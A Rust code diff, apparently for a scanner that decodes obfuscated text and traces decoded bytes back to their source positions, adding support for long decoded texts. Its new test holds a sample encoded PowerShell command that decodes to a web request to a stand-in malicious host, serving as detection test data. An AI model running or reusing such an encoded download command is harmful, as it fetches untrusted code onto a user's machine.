@@ -8,8 +8,14 @@ use super::{DECODINGS, Decoding};
 pub(super) struct Edit {
     /// Bytes of the written form, at least one.
     pub(super) written: usize,
-    made: [u8; 16],
-    length: usize,
+    made: Made,
+}
+
+enum Made {
+    /// The bytes in the first so many places, all of which stand for the whole form.
+    Few([u8; 16], usize),
+    /// Many bytes, each of which stands for its share of the form.
+    Many(Vec<u8>),
 }
 
 impl Edit {
@@ -23,7 +29,7 @@ impl Edit {
         let mut bytes = [0; 16];
         let length = text.len().min(16);
         bytes[..length].copy_from_slice(&text[..length]);
-        Edit { written, made: bytes, length }
+        Edit { written, made: Made::Few(bytes, length) }
     }
 
     /// A written form that stands for one character.
@@ -31,9 +37,25 @@ impl Edit {
         Edit::text(written, character.encode_utf8(&mut [0; 4]).as_bytes())
     }
 
+    /// A written form of `written` bytes that stands for a whole text.
+    pub(super) fn long(written: usize, text: Vec<u8>) -> Edit {
+        Edit { written, made: Made::Many(text) }
+    }
+
     /// The bytes it stands for.
     pub(super) fn bytes(&self) -> &[u8] {
-        &self.made[..self.length]
+        match &self.made {
+            Made::Few(bytes, length) => &bytes[..*length],
+            Made::Many(bytes) => bytes,
+        }
+    }
+
+    /// Where the byte `nth` of them stands in the form.
+    fn place(&self, nth: usize) -> usize {
+        match &self.made {
+            Made::Few(..) => 0,
+            Made::Many(bytes) => nth * self.written / bytes.len().max(1),
+        }
     }
 }
 
@@ -160,9 +182,9 @@ fn apply(below: &[u8], decoding: &Decoding) -> Option<Applied> {
         let (bytes, origins) = applied
             .get_or_insert_with(|| (Vec::with_capacity(below.len()), Vec::with_capacity(below.len() + 1)));
         behind &= copy(below, copied..at, bytes, origins, behind);
-        for byte in edit.bytes() {
+        for (nth, byte) in edit.bytes().iter().enumerate() {
             bytes.push(*byte);
-            origins.push(Origin { position: at as u32, made: true, behind });
+            origins.push(Origin { position: (at + edit.place(nth)) as u32, made: true, behind });
             behind = false;
         }
         behind |= edit.bytes().is_empty();
@@ -266,6 +288,17 @@ mod tests {
         let trace = view.trace(2..9).expect("touched");
         assert_eq!((trace.span, trace.decoding), (7..14, vec!["terminal".to_owned()]));
         assert_eq!(view.trace(0..1), None);
+    }
+
+    #[test]
+    fn a_match_in_base64_stands_at_its_own_characters() {
+        let line = b"powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGIAYQBkAC4AbgBlAHQALwB4AA== x";
+        let view = views(line, 4).pop().expect("decoded");
+        assert_eq!(view.bytes, b"powershell -enc iwr http://bad.net/x x");
+        let trace = view.trace(27..34).expect("made by decoding");
+        assert_eq!(trace.decoding, ["base64"]);
+        assert!(trace.span.start > 40 && trace.span.end < 70, "{:?}", trace.span);
+        assert_eq!(view.trace(16..36).expect("made by decoding").span, 16..72);
     }
 
     #[test]
